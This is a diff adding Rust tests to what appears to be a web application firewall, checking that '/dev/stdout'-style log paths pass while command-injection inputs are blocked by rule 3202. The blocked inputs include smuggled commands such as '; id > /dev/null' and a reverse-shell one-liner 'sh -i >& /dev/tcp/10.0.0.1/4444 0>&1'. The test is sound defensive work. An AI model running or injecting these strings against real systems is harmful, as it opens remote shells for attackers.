@@ -5121,6 +5121,21 @@ fn holdout55_and_56_shapes_pass_and_their_attacks_still_score() {
         }
     }
 
+    // An output sink alone is a log setting (holdout44's mesh config `"accessLogFile":
+    // "/dev/stdout"`); with anything around it, a redirection or a device in a command (3202).
+    for v in ["/dev/stdout", "/dev/stderr", "/dev/null"] {
+        for o in as_field_and_query(&waf, v) {
+            assert!(!o.blocked && rule(&o, 3202).is_none(), "{v}: {o:?}");
+        }
+    }
+    for q in
+        ["; id > /dev/null", "/dev/null; id", "x|tee /dev/stderr", "sh -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/dev/stdin"]
+    {
+        for o in as_field_and_query(&waf, q) {
+            assert!(o.blocked && rule(&o, 3202) == Some(5), "{q}: {o:?}");
+        }
+    }
+
     // A document whose root declares a namespace of its own names some elements as HTML does
     // (a dive log's `<link ref>`, a PLC project's `<body>` with its documentation under an
     // `xhtml:` prefix, a map's `<Style id>`): its own vocabulary, as an upload and as a field.
